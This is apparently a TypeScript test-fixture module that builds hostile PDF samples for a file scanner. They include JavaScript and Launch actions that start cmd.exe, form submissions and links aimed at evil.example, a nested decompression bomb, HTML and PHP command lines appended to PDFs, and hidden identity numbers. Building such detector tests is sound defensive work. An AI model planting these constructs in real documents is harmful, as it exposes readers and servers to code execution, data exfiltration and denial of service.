import { deflateSync } from 'node:zlib';
import type { HostileFile } from './hostile-files.ts';
import { type MadePdf, madePdf, pdfStream, pdfText, revisedPdf } from './made-pdf.ts';

const pdf = (what: string, code: string, made: MadePdf, verdict?: 'held'): HostileFile => ({
  what,
  name: 'a.pdf',
  bytes: madePdf(made),
  code,
  ...(verdict ? { verdict } : {}),
});

/** Twenty million zeros. */
const BOMB = deflateSync(Buffer.alloc(20_000_000));

/** The same attack in the open and in a compressed stream of objects, where searching the bytes finds nothing. */
const both = (what: string, code: string, made: MadePdf): readonly HostileFile[] => [
  pdf(what, code, made),
  pdf(`${what}, in a stream of objects`, code, { ...made, compressed: true }),
];

const action = (words: string): MadePdf => ({
  page: '/Annots [4 0 R]',
  objects: [`<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A << ${words} >> >>`],
});

const actions = (): readonly HostileFile[] => [
  ...both('a script when a PDF opens', 'script', {
    catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >>',
  }),
  ...both('a script in the names of a PDF', 'script', {
    catalog: '/Names << /JavaScript << /Names [(a) 4 0 R] >> >>',
    objects: ['<< /S /JavaScript /JS (1) >>'],
  }),
  ...both('a script on a page', 'acts-by-itself', { page: '/AA << /O << /S /JavaScript /JS (1) >> >>' }),
  ...both('a program to be started', 'acts-on-the-computer', action('/S /Launch /F (cmd.exe)')),
  ...both(
    'a program to be started after a jump',
    'acts-on-the-computer',
    action('/S /GoTo /D [3 0 R /Fit] /Next << /S /Launch /F (cmd.exe) >>'),
  ),
  ...both('a form that is sent', 'acts-on-the-computer', action('/S /SubmitForm /F (https://evil.example)')),
  ...both('data that are loaded', 'acts-on-the-computer', action('/S /ImportData /F (a.fdf)')),
  ...both('another file that is opened', 'acts-on-the-computer', action('/S /GoToR /F (a.pdf) /D [0 /Fit]')),
  ...both(
    'an article in another file',
    'acts-on-the-computer',
    action('/S /Thread /F (\\\\evil.example\\a.pdf)'),
  ),
  ...both('what makes every link a script', 'dangerous-link', { catalog: '/URI << /Base (javascript:) >>' }),
  ...both('a web page that opens by itself', 'acts-by-itself', {
    catalog: '/OpenAction << /S /URI /URI (https://evil.example) >>',
  }),
  ...both('a link that is a script in a PDF', 'dangerous-link', action('/S /URI /URI (javascript:alert(1))')),
  ...both(
    'a link to a server’s folder in a PDF',
    'dangerous-link',
    action('/S /URI /URI (file://evil.example/a.exe)'),
  ),
  ...both('an attached file', 'embedded-file', {
    catalog: '/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>',
    objects: ['<< /Type /Filespec /F (a.exe) /EF << /F 5 0 R >> >>', pdfStream('/Type /EmbeddedFile', 'MZ')],
  }),
  ...both('a file pinned to the page', 'embedded-file', {
    page: '/Annots [4 0 R]',
    objects: ['<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] >>'],
  }),
  ...both('a film in a PDF', 'embedded-media', {
    page: '/Annots [4 0 R]',
    objects: ['<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>'],
  }),
  ...both('a dynamic form', 'dynamic-form', {
    catalog: '/AcroForm << /XFA 4 0 R /Fields [] >>',
    objects: [pdfStream('', '<xdp/>')],
  }),
];

const disguises = (): readonly HostileFile[] => [
  pdf('a script written in numbers', 'script', { catalog: '/OpenAction << /S /J#61vaScript /J#53 (1) >>' }),
  pdf('a script that nothing points to', 'script', { objects: ['<< /S /JavaScript /JS (1) >>'] }),
  pdf('a script in a list in a list', 'script', {
    objects: ['[[[<< /a [<< /S /JavaScript /JS (1) >>] >>]]]'],
  }),
  pdf('an object hidden in a stream', 'unreadable', {
    objects: [pdfStream('', 'x\n77 0 obj\n<< /S /GoTo /D 1 >>\nendobj\n')],
  }),
  pdf('a stream of objects that does not say so', 'unreadable', {
    objects: [pdfStream('/N 1 /First 4', '9 0 <<>>')],
  }),
  pdf('a stream kept elsewhere', 'outside-content', {
    objects: [pdfStream('/F (http://evil.example/a)', '')],
  }),
  pdf('a model in three dimensions', 'embedded-media', {
    objects: [pdfStream('/Type /3D /Subtype /U3D', 'x')],
  }),
  pdf('a stream that blows up', 'could-not-be-inspected', {
    objects: [pdfStream('/Filter [/FlateDecode /FlateDecode]', deflateSync(BOMB).toString('latin1'))],
  }),
  pdf('an encrypted PDF', 'encrypted', {
    trailer: '/Encrypt << /Filter /Standard /V 2 /R 3 /O (x) /U (x) /P -4 >>',
  }),
  {
    what: 'a script that a later revision took away',
    name: 'a.pdf',
    bytes: revisedPdf(
      madePdf({ objects: ['<< /S /JavaScript /JS (1) >>'] }),
      new Map([[4, '<< /S /GoTo /D [3 0 R /Fit] >>']]),
    ),
    code: 'script',
  },
  {
    what: 'a page behind a PDF',
    name: 'a.pdf',
    bytes: Buffer.concat([madePdf(), Buffer.from('<html><script>alert(document.domain)</script></html>')]),
    code: 'data-after-the-end',
  },
  {
    what: 'a PDF that begins as a page',
    name: 'a.pdf',
    bytes: Buffer.concat([Buffer.from('%PDF-1.7\n%<html><script>1</script>\n'), madePdf().subarray(9)]),
    code: 'two-formats',
  },
  {
    what: 'a few words for a server behind a PDF',
    name: 'a.pdf',
    bytes: Buffer.concat([madePdf(), Buffer.from('<?=`id`?>')]),
    code: 'data-after-the-end',
  },
  { what: 'half a PDF', name: 'a.pdf', bytes: madePdf().subarray(0, 200), code: 'unreadable' },
  { what: 'a PDF of nothing', name: 'a.pdf', bytes: Buffer.from('%PDF-1.7\n%%EOF\n'), code: 'unreadable' },
  {
    what: 'a PDF without end in its brackets',
    name: 'a.pdf',
    bytes: madePdf({ objects: ['['.repeat(100_000)] }),
    code: 'unreadable',
  },
];

const numbers = (): readonly HostileFile[] => {
  const covered = `${pdfText('Holder AB987654\\(3\\)')} 0 0 0 rg 60 690 400 40 re f`;
  return [
    pdf(
      'an identity number on a page',
      'identity-number',
      { content: pdfText('Holder AB987654\\(3\\)') },
      'held',
    ),
    pdf('an identity number under a black box', 'identity-number', { content: covered }, 'held'),
    pdf(
      'an invisible identity number',
      'identity-number',
      { content: `3 Tr ${pdfText('AB987654\\(3\\)')}` },
      'held',
    ),
    pdf(
      'an identity number letter by letter',
      'identity-number',
      { content: 'BT /F1 12 Tf 72 700 Td [(A) -2 (B9) 3 (87) (654) 1 (\\(3\\))] TJ ET' },
      'held',
    ),
    pdf(
      'an identity number in the properties of a PDF',
      'identity-number',
      { objects: ['<< /Title (Consent AB987654\\(3\\)) >>'], trailer: '/Info 4 0 R' },
      'held',
    ),
    pdf(
      'an identity number in a note',
      'identity-number',
      {
        page: '/Annots [4 0 R]',
        objects: ['<< /Type /Annot /Subtype /Text /Rect [0 0 9 9] /Contents (AB987654\\(3\\)) >>'],
      },
      'held',
    ),
    pdf(
      'an identity number on a stamp',
      'identity-number',
      { objects: [pdfStream('/Subtype /Form', 'BT [(AB98) -2 (7654\\(3\\))] TJ ET')] },
      'held',
    ),
    pdf(
      'an identity number in XMP',
      'identity-number',
      {
        catalog: '/Metadata 4 0 R',
        objects: [pdfStream('/Type /Metadata /Subtype /XML', '<x:xmpmeta>AB987654(3)</x:xmpmeta>')],
      },
      'held',
    ),
    {
      what: 'an identity number that a later revision covered',
      name: 'a.pdf',
      bytes: revisedPdf(
        madePdf({ content: pdfText('AB987654\\(3\\)') }),
        new Map([[99, pdfStream('', pdfText('covered'))]]),
      ),
      code: 'identity-number',
      verdict: 'held',
    },
  ];
};

/** PDFs that act, hide, or say too much. */
export const hostilePdfs = (): readonly HostileFile[] => [...actions(), ...disguises(), ...numbers()];
